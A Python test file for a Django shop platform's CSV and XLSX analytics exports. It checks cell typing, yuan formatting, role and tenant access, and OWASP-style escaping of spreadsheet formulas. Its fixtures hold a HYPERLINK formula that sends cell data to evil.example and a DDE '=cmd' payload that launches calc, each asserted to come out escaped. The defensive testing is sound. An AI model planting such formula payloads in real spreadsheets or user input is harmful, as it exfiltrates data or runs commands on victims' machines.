"""CSV and XLSX downloads of every data-centre table, the CRM's member list and the platform report: the XLSX is
opened with openpyxl and its cells checked (numbers stay numbers, money in yuan with two decimals; headers in the
merchant's language, zh-Hans by default); text that a spreadsheet would run as a formula is escaped the OWASP way
in both formats; roles and foreign hosts."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.test import Client
from django_tenants.utils import tenant_context

from shared_apps.tenancy.models import MembershipRole
from tenant_apps.analytics import services
from tenant_apps.analytics.exports import Rate, Yuan, csv_cell, sheet_title, xlsx_bytes
from tenant_apps.events.services import drain_due_events
from tenant_apps.members.models import Member
from tests.conftest import staff_of
from tests.factories import UserFactory
from tests.storefront.conftest import make_category, make_product

from .conftest import DAY1, DAY2, DAY3, deliver, flush, paid_payload, push, when

pytestmark = pytest.mark.django_db
EXPORT = "/admin/analytics/analyticssettings/export/{}.{}"
PERIOD = {"start": "2026-03-02", "end": "2026-03-03"}
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
TABLES = ("summary", "daily", "funnel", "products", "categories", "distributors", "sources")


def signed_in(shop, role=MembershipRole.OWNER) -> Client:
    client = Client(HTTP_HOST=f"{shop.subdomain}.localhost")
    client.force_login(staff_of(shop, role))
    return client


def csv_table(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def xlsx_sheet(response):
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert len(workbook.worksheets) == 1
    return workbook.worksheets[0]


def values(sheet) -> list[list]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.fixture
def sold(shop_a):
    """DAY1: one visitor views and adds to cart a product with a formula for a title, then pays 129.00 for it."""
    with tenant_context(shop_a):
        product = make_product(EVIL, category=make_category("@茶叶"))
    push(shop_a, "view_product", "visitor-aaaaaaaaaaaa", DAY1, product_id=product.pk)
    push(shop_a, "add_to_cart", "visitor-aaaaaaaaaaaa", DAY1, 11, product_id=product.pk)
    push(shop_a, "view_shop", "visitor-bbbbbbbbbbbb", DAY2, source="distributor", ref="D1")
    flush(shop_a)
    line = {"order_line_id": 1, "sku_id": 1, "product_id": product.pk, "quantity": 1, "total_amount": 12900}
    deliver(shop_a, "order.paid", paid_payload(1, 9, 12900, [line]), when(DAY1))
    return product


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain =1", "plain =1"),
        ("", ""),
        (None, ""),
        (12, "12"),
        (Yuan(-12345), "-123.45"),  # a number, not text: no apostrophe
        (Rate(0.5), "50.00%"),
        (date(2026, 3, 2), "2026-03-02"),
    ],
)
def test_csv_cells(value, written):
    assert csv_cell(value) == written


def test_xlsx_cells_are_typed_and_text_is_never_a_formula():
    moment = datetime(2026, 3, 2, 1, 30, tzinfo=ZoneInfo("UTC"))  # 09:30 in Shanghai
    rows = [
        ["text", "money", "rate", "count", "when"],
        [EVIL, Yuan(12900), Rate(0.125), 3, moment],
        ["#N/A", Yuan(-5), None, 0, date(2026, 3, 2)],
        ["bell\x07 and tab\tinside", "@x", "-1", "+1", "\tx"],
    ]
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(rows, "a/b:c*[d]" * 5))).active
    assert sheet.title == sheet_title("a/b:c*[d]" * 5) and len(sheet.title) <= 31
    assert sheet["A2"].value == "'" + EVIL and sheet["A2"].data_type == "s"
    assert (sheet["B2"].value, sheet["B2"].number_format) == (129, "#,##0.00")
    assert (sheet["C2"].value, sheet["C2"].number_format) == (0.125, "0.00%")
    assert (sheet["D2"].value, sheet["E2"].value) == (3, datetime(2026, 3, 2, 9, 30))
    assert (sheet["A3"].value, sheet["A3"].data_type) == ("#N/A", "s")  # text, not an error value
    assert sheet["B3"].value == Decimal("-0.05") or sheet["B3"].value == -0.05
    assert sheet["E3"].value == datetime(2026, 3, 2)
    assert [c.value for c in sheet[4]] == ["bell and tab\tinside", "'@x", "'-1", "'+1", "'\tx"]
    assert all(cell.font.bold for cell in sheet[1]) and sheet.freeze_panes == "A2"


def test_every_table_in_both_formats_with_the_same_cells(shop_a, sold):
    client = signed_in(shop_a)
    for name in TABLES:
        as_csv = client.get(EXPORT.format(name, "csv"), PERIOD)
        as_xlsx = client.get(EXPORT.format(name, "xlsx"), PERIOD)
        assert (as_csv.status_code, as_xlsx.status_code) == (200, 200), name
        assert as_xlsx["Content-Disposition"] == f'attachment; filename="{name}-2026-03-02-2026-03-03.xlsx"'
        rows, sheet = csv_table(as_csv), values(xlsx_sheet(as_xlsx))
        assert len(rows) >= 2 and rows[0] == sheet[0], name  # same header
        assert len(rows) == len(sheet), name


def test_product_ranking_cells(shop_a, sold):
    client = signed_in(shop_a)
    rows = csv_table(client.get(EXPORT.format("products", "csv"), PERIOD))
    assert rows[0] == ["商品", "浏览量", "访客数", "加购人数", "支付订单数", "件数", "支付金额（元）"]
    assert rows[1] == ["'" + EVIL, "1", "1", "1", "1", "1", "129.00"]
    sheet = xlsx_sheet(client.get(EXPORT.format("products", "xlsx"), PERIOD))
    assert sheet.title == "商品"
    assert values(sheet)[1] == ["'" + EVIL, 1, 1, 1, 1, 1, 129]
    assert sheet["A2"].data_type == "s" and sheet["G2"].number_format == "#,##0.00"
    categories = values(xlsx_sheet(client.get(EXPORT.format("categories", "xlsx"), PERIOD)))
    assert categories[1][0] == "'@茶叶"


def test_daily_and_summary_cells(shop_a, sold):
    client = signed_in(shop_a)
    daily = csv_table(client.get(EXPORT.format("daily", "csv"), PERIOD))
    assert daily[1] == ["2026-03-02", "1", "1", "0", "1", "129.00", "100.00%"]
    sheet = xlsx_sheet(client.get(EXPORT.format("daily", "xlsx"), PERIOD))
    assert values(sheet)[1:] == [[datetime(2026, 3, 2), 1, 1, 0, 1, 129, 1], [datetime(2026, 3, 3), 1, 1, 0, 0, 0, 0]]
    assert (sheet["A2"].number_format, sheet["G2"].number_format) == ("yyyy-mm-dd", "0.00%")
    summary = values(xlsx_sheet(client.get(EXPORT.format("summary", "xlsx"), PERIOD)))
    by_metric = {row[0]: row[1:] for row in summary[1:]}
    assert by_metric["支付金额"] == [129, 0, None]  # no change to compute from zero
    assert by_metric["访客数（UV）"] == [2, 0, None]
    assert by_metric["支付转化率"][0] == 0.5


def test_summary_change_against_the_previous_period(shop_a, sold):
    summary = values(xlsx_sheet(signed_in(shop_a).get(EXPORT.format("summary", "xlsx"), {"start": "2026-03-03"})))
    by_metric = {row[0]: row[1:] for row in summary[1:]}
    assert by_metric["支付金额"][0] == 0 and by_metric["访客数（UV）"] == [1, 1, 0]  # +0.0% is a number


def test_exports_refuse_unknown_tables_roles_and_foreign_hosts(shop_a, shop_b, sold):
    client = signed_in(shop_a)
    assert client.get(EXPORT.format("nope", "xlsx")).status_code == 404
    assert client.get("/admin/analytics/analyticssettings/export/products.pdf").status_code == 404
    assert signed_in(shop_a, MembershipRole.STAFF).get(EXPORT.format("products", "xlsx")).status_code == 404
    assert signed_in(shop_a, MembershipRole.FINANCE).get(EXPORT.format("products", "xlsx")).status_code == 200
    foreign = Client(HTTP_HOST=f"{shop_b.subdomain}.localhost")
    foreign.force_login(staff_of(shop_a))  # A's owner on B's back office
    assert foreign.get(EXPORT.format("products", "xlsx")).status_code in (302, 403)
    b_rows = values(xlsx_sheet(signed_in(shop_b).get(EXPORT.format("products", "xlsx"), PERIOD)))
    assert b_rows[1:] == []  # B's own (empty) ranking, never A's


@pytest.mark.parametrize(
    "period", [{"start": "2026-03-05", "end": "2026-03-01"}, {"start": "2025-03-01", "end": "2026-03-02"}, {"end": "x"}]
)
def test_a_bad_period_is_a_400_not_another_period(shop_a, period):
    for fmt in ("csv", "xlsx"):
        response = signed_in(shop_a).get(EXPORT.format("products", fmt), period)
        assert response.status_code == 400 and response.content
    operator = Client(HTTP_HOST="localhost")
    operator.force_login(UserFactory(is_staff=True, is_superuser=True))
    assert operator.get("/admin/insights/shopdaystat/report.xlsx", period).status_code == 400


def test_member_list_xlsx(shop_a, shop_b):
    with tenant_context(shop_a):
        member = Member.objects.create(phone="13900000001", password="!", nickname="=cmd|' /C calc'!A0")
    deliver(shop_a, "order.paid", paid_payload(1, member.pk, 25000))
    client = signed_in(shop_a)
    rows = csv_table(client.get("/admin/analytics/membertag/members.csv"))
    assert rows[1][:4] == [str(member.pk), "'=cmd|' /C calc'!A0", "250.00", "1"]
    sheet = xlsx_sheet(client.get("/admin/analytics/membertag/members.xlsx"))
    headers = ["会员 ID", "会员", "消费金额（元）", "支付订单数", "最近访问", "来源", "分销员编号", "标签"]
    assert values(sheet)[0] == headers
    assert values(sheet)[1][:4] == [member.pk, "'=cmd|' /C calc'!A0", 250, 1]
    assert sheet["C2"].number_format == "#,##0.00" and sheet["B2"].data_type == "s"
    assert signed_in(shop_a, MembershipRole.STAFF).get("/admin/analytics/membertag/members.xlsx").status_code in (
        403,
        404,
    )
    assert values(xlsx_sheet(signed_in(shop_b).get("/admin/analytics/membertag/members.xlsx")))[1:] == []


def test_platform_report_xlsx(shop_a):
    shop_a.name = "+Evil shop"
    shop_a.save(update_fields=["name"])
    push(shop_a, "view_shop", "visitor-aaaaaaaaaaaa", DAY1)
    flush(shop_a)
    deliver(shop_a, "order.paid", paid_payload(1, 1, 12900), when(DAY1))
    with tenant_context(shop_a):
        services.rollup(today=DAY3)
        drain_due_events()
    operator = Client(HTTP_HOST="localhost")
    operator.force_login(UserFactory(is_staff=True, is_superuser=True))
    rows = csv_table(operator.get("/admin/insights/shopdaystat/report.csv", PERIOD))
    assert ["'+Evil shop", "1", "0", "1", "129.00"] in rows  # no order row behind the event: 0 placed
    sheet = values(xlsx_sheet(operator.get("/admin/insights/shopdaystat/report.xlsx", PERIOD)))
    assert sheet[0] == ["店铺", "访客数", "下单数", "支付订单数", "支付金额（元）"]
    assert ["'+Evil shop", 1, 0, 1, 129] in sheet
    outsider = Client(HTTP_HOST="localhost")
    outsider.force_login(UserFactory())
    assert outsider.get("/admin/insights/shopdaystat/report.xlsx").status_code == 302  # to the sign-in page
